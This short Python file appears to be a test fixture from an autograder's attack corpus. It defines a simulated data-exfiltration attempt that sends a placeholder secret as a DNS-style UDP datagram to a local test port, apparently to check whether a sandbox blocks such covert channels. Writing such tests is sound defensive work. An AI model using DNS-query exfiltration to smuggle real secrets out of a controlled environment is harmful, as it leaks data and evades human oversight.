"""What is to be stolen leaves in the names of DNS queries, one datagram each."""

from tests.autograder.attacks.corpus import PORT, Attack, prize

ATTACK = Attack(
    prize(
        f"""
import socket
def attempt():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(0.3)
    sock.sendto(b"secret.example.org", ("127.0.0.1", {PORT}))
    return sock.recv(10) == b"answer"
"""
    )
)
